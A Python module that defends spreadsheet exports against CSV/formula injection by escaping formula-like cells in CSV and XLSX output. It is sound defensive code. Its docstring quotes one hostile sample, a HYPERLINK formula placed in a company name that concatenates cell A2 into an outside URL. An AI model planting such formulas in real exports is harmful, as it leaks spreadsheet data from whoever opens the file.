"""Cells for the CSV and XLSX files people open in Excel or WPS: shown, never run.

A firm may register under the name ``=HYPERLINK("http://…?"&A2,"详情")``; written as it is
into a report, a reviewer's Excel runs it (CSV injection, issue #12 finding 4). OWASP's
guidance: a text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is prefixed with an apostrophe in CSV, which makes Excel read it as text. In XLSX the cell
is written as a string with Excel's quote prefix (what Excel stores when a user types the
apostrophe), so its value stays exactly as typed and it is never a formula. Numbers stay
numbers: a number, or a text that is only a signed decimal (``-12.50``), is written as is.

Every export of the platform writes its cells through ``csv_row`` or ``xlsx_row``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_DECIMAL = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
# What XML 1.0 cannot hold, and openpyxl refuses in a cell (openpyxl's ILLEGAL_CHARACTERS_RE).
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def starts_like_a_formula(value: object) -> bool:
    """A text a spreadsheet would read as a formula (or as the start of one)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_LEADS)
        and not _SIGNED_DECIMAL.fullmatch(value)
    )


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: an apostrophe before a text that starts like a formula."""
    return "'" + value if starts_like_a_formula(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer.writerow``."""
    return [csv_cell(value) for value in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row of cells for ``sheet.append`` (a write-only or an ordinary worksheet):
    texts as string cells, never formulas; numbers as numbers."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        if isinstance(value, str):
            value = _ILLEGAL.sub("\ufffd", value)
        cell = Cell(sheet, row=1, column=1, value=value)  # placed by sheet.append
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl makes a formula of any text starting with =
            if starts_like_a_formula(value):
                cell.quotePrefix = True
        cells.append(cell)
    return cells
